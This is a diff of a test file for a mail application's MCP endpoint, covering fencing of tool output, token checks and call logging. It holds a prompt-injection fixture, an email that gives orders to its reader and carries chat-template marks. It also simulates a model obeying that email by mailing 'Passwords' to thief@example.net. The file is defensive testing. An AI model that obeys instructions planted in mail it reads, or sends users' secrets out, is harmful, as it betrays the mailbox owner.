@@ -130,7 +130,7 @@ describe.each(usualEngines)("the MCP endpoint, on %s", (engine) => {
     // It cannot close the fence, and no template's mark survives in it.
     expect(read.text.match(/^END \w+$/gm)).toHaveLength(1);
     expect(read.text).not.toContain("<|im_start|>");
-    // A model that obeys it all the same.
+    // A model that obeys the message.
     const letter = { to: "thief@example.net", subject: "Passwords", content: "All of them" };
     const answers = [await use("send_mail", letter), await use("send_mail", letter)];
     const [first] = answers.map(({ text }) => z.object({ id: z.string() }).parse(JSON.parse(text)));
@@ -201,7 +201,7 @@ describe.each(usualEngines)("the MCP endpoint, on %s", (engine) => {
     expect(unsaid).toMatchObject({ isError: true, text: expect.stringContaining("token.account") });
   });
 
-  it("refuses strangers, people's own sessions, and a token that is revoked in the middle", async () => {
+  it("refuses unknown clients, sessions of users, and a token that is revoked during use", async () => {
     await expect(connect("inlet_nothing")).rejects.toThrow();
     const answer = await post(listTools, { authorization: `Bearer ${anna.token}` });
     expect(answer.status).toBe(401);
@@ -245,7 +245,7 @@ describe.each(usualEngines)("the MCP endpoint, on %s", (engine) => {
     expect((await use("no_such_tool")).isError).toBe(true);
   });
 
-  it("is recorded call by call, under the tool's name, with nothing of what was in it", async () => {
+  it("records each call under the tool's name, without its content", async () => {
     const { token, created } = await aToken({ scopes: ["read"] });
     const { use } = await connect(token);
     await use("search_mail", { query: "secretword", accountId: mailbox.accountId });
@@ -275,7 +275,7 @@ describe.each(usualEngines)("the MCP endpoint, on %s", (engine) => {
     });
     const rows = await app.database.reader.selectFrom("api_token_calls").selectAll().execute();
     expect(JSON.stringify(rows)).not.toContain("secretword");
-    // Nobody else's, and not for programs.
+    // Not for another user, and not for API clients.
     const ben = await aPerson(app.origin, `Ben${count}`);
     expect(await ben.client.refusal("GET /user/tokens/{id}/calls", { id })).toMatchObject({
       status: 404,
@@ -284,7 +284,7 @@ describe.each(usualEngines)("the MCP endpoint, on %s", (engine) => {
   });
 });
 
-/** It orders whoever reads it about, closes fences that are not its own, and speaks in marks of chat templates. */
+/** A message that gives orders to its reader, closes fences that it did not open, and uses marks of chat templates. */
 const hostileMail = {
   uid: 2,
   flags: [],
